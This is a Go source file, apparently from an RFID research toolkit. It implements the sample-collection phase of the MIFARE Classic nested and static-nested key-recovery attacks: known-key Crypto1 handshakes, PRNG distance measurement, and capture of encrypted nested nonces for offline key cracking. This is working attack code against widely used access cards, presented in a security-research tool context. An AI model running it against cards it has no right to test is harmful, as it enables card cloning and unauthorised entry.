package toolbox

import (
	"encoding/binary"
	"sort"

	"github.com/chameleonultra/chamelgo/internal/crypto1"
)

// distNr is the number of samples nested-distance detection averages
// over (spec.md §4.8's DIST_NR).
const distNr = 3

// setsNr is the number of independent {nt1, nt2_enc, parity} samples the
// nested and static-nested attacks collect (spec.md §4.8's SETS_NR).
const setsNr = 2

// completeFirstAuth drives a full, known-key first-auth handshake to
// completion, returning the tag-side cipher left in its post-auth state
// and the plain nonce it authenticated with.
func completeFirstAuth(ex Exchanger, uid [4]byte, key [6]byte, block byte, isKeyB bool) (*crypto1.Cipher, uint32, Status) {
	rx, ok := ex.Exchange([]byte{keyOpcode(isKeyB), block})
	if !ok || len(rx) != 4 {
		return nil, 0, TagLost
	}
	var ntB [4]byte
	copy(ntB[:], rx)
	nt := binary.BigEndian.Uint32(ntB[:])

	cipher := crypto1.Setup(key, uid, ntB)
	rar := crypto1.PRNGSuccessor(nt, 64)

	var nr [4]byte // reader nonce; value is irrelevant to a known-key handshake
	cipher.EncryptWithFeedback(nr[:], nil)

	var ar [4]byte
	binary.BigEndian.PutUint32(ar[:], rar)
	cipher.Encrypt(ar[:], nil)

	frame := append(append([]byte{}, nr[:]...), ar[:]...)
	atEnc, ok := ex.Exchange(frame)
	if !ok || len(atEnc) != 4 {
		return nil, 0, AuthFail
	}
	return cipher, nt, Ok
}

func median(samples []uint32) uint32 {
	sorted := append([]uint32{}, samples...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	return sorted[len(sorted)/2]
}

// NestedDistanceDetect measures the PRNG clock distance between a
// first-auth nonce and the nonce the tag produces for an immediately
// following nested auth to the same block, using a known key, and
// returns the median over distNr samples (spec.md §4.8's
// nested_distance_detect).
func NestedDistanceDetect(ex Exchanger, block byte, isKeyB bool, key [6]byte) (uint32, Status) {
	uid := ex.UID()
	samples := make([]uint32, 0, distNr)

	for i := 0; i < distNr; i++ {
		ex.ResetField()
		_, nt1, status := completeFirstAuth(ex, uid, key, block, isKeyB)
		if status == TagLost {
			return 0, TagLost
		}
		if status != Ok {
			continue
		}

		rx, ok := ex.Exchange([]byte{keyOpcode(isKeyB), block})
		if !ok || len(rx) != 4 {
			continue
		}
		var nt2Enc [4]byte
		copy(nt2Enc[:], rx)
		_, nt2, _ := crypto1.DecryptNestedNonce(key, uid, nt2Enc)
		nt2Val := binary.BigEndian.Uint32(nt2[:])

		dist, found := findPRNGDistance(nt1, nt2Val, maxPRNGSearch)
		if !found {
			continue
		}
		samples = append(samples, dist)
	}

	if len(samples) == 0 {
		return 0, CantFixNt
	}
	return median(samples), Ok
}

// NestedSample is one {nt1, nt2_enc, parity} observation collected for
// offline nested key recovery.
type NestedSample struct {
	Nt1    uint32
	Nt2Enc [4]byte
	Parity [4]byte
}

// NestedCore is the raw material nested_recover_key hands to the offline
// Crypto1 state-recovery post-processing step.
type NestedCore struct {
	UID     [4]byte
	Samples [setsNr]NestedSample
}

// collectNestedSample sends one bare auth request for targetBlock onto an
// already-authenticated session (nt1 from the handshake that reached
// it), capturing the nested response's raw encrypted second nonce. The
// tag treats this as nested auth, rather than demanding a fresh
// first-auth, purely because the session is already Authed.
func collectNestedSample(ex Exchanger, nt1 uint32, targetBlock byte, targetIsKeyB bool) (NestedSample, Status) {
	rx, ok := ex.Exchange([]byte{keyOpcode(targetIsKeyB), targetBlock})
	if !ok || len(rx) != 4 {
		return NestedSample{}, AuthFail
	}
	var nt2Enc [4]byte
	copy(nt2Enc[:], rx)
	return NestedSample{Nt1: nt1, Nt2Enc: nt2Enc}, Ok
}

// NestedRecoverKey collects setsNr independent nested-auth samples for
// targetBlock, reached by first completing a normal handshake against
// knownBlock (whose key is already known) and then, while still
// authenticated, issuing a bare auth request for targetBlock — which the
// tag answers as a nested auth rather than a fresh first-auth (spec.md
// §4.8's nested_recover_key).
func NestedRecoverKey(ex Exchanger, knownBlock byte, knownIsKeyB bool, knownKey [6]byte, targetBlock byte, targetIsKeyB bool) (NestedCore, Status) {
	uid := ex.UID()
	var core NestedCore
	core.UID = uid
	for i := 0; i < setsNr; i++ {
		ex.ResetField()
		_, nt1, status := completeFirstAuth(ex, uid, knownKey, knownBlock, knownIsKeyB)
		if status != Ok {
			return core, status
		}
		sample, status := collectNestedSample(ex, nt1, targetBlock, targetIsKeyB)
		if status != Ok {
			return core, status
		}
		core.Samples[i] = sample
	}
	return core, Ok
}

// StaticNestedCore is the raw material static_nested_recover_key hands to
// post-processing: unlike NestedCore, the first sample is a bare
// first-auth handshake (the attacker does not yet know any key for this
// tag), and only the second sample chains a nested request after it.
type StaticNestedCore struct {
	UID     [4]byte
	First   NestedSample // Nt2Enc/Parity unused; Nt1 only
	Chained NestedSample
}

// StaticNestedRecoverKey targets a tag whose PRNG is Static (every
// first-auth nonce is identical), so a single first-auth plus a single
// nested-auth chained onto it is enough raw material, once the
// attacker-known "test key" used to perform the first auth is supplied
// (spec.md §4.8's static_nested_recover_key).
func StaticNestedRecoverKey(ex Exchanger, block byte, isKeyB bool, testKey [6]byte) (StaticNestedCore, Status) {
	uid := ex.UID()
	var core StaticNestedCore
	core.UID = uid

	rx, ok := ex.Exchange([]byte{keyOpcode(isKeyB), block})
	if !ok || len(rx) != 4 {
		return core, TagLost
	}
	core.First.Nt1 = binary.BigEndian.Uint32(rx)
	ex.ResetField()

	_, nt1, status := completeFirstAuth(ex, uid, testKey, block, isKeyB)
	if status != Ok {
		return core, status
	}
	sample, status := collectNestedSample(ex, nt1, block, isKeyB)
	if status != Ok {
		return core, status
	}
	core.Chained = sample
	return core, Ok
}
